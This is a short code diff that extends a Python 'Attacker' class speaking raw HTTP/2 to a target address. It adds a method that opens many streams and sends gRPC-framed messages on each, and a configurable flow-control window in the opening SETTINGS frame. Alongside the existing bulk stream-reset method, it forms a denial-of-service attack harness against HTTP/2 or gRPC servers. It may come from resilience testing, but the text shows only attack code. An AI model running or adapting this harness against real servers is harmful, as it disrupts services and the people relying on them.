@@ -41,6 +41,11 @@ class Attacker:
             self._send(opening(stream, path, metadata=metadata)[0])
         return streams
 
+    def ask(self, path: str, message: bytes, count: int) -> None:
+        """Make so many calls, whole."""
+        for stream in self.open(path, count):
+            self._send(Frame(DATA, END_STREAM, stream, struct.pack(">BI", 0, len(message)) + message))
+
     def take_back(self, streams: Sequence[int]) -> None:
         for stream in streams:
             self._send(reset(stream))
@@ -110,10 +115,12 @@ class Attacker:
 
 
 @contextmanager
-def attacking(address: str) -> Iterator[Attacker]:
+def attacking(address: str, answer_window: int = FIRST_WINDOW) -> Iterator[Attacker]:
+    """Connect. `answer_window`: how much of an answer is read."""
     host, _, port = address.rpartition(":")
+    settings = struct.pack(">HI", INITIAL_WINDOW, answer_window)
     with socket.create_connection((host, int(port)), timeout=10) as opened:
-        opened.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(SETTINGS, 0, 0, b"").encoded())
+        opened.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + Frame(SETTINGS, 0, 0, settings).encoded())
         attacker = Attacker(opened)
         attacker.hear(1.0)
         yield attacker
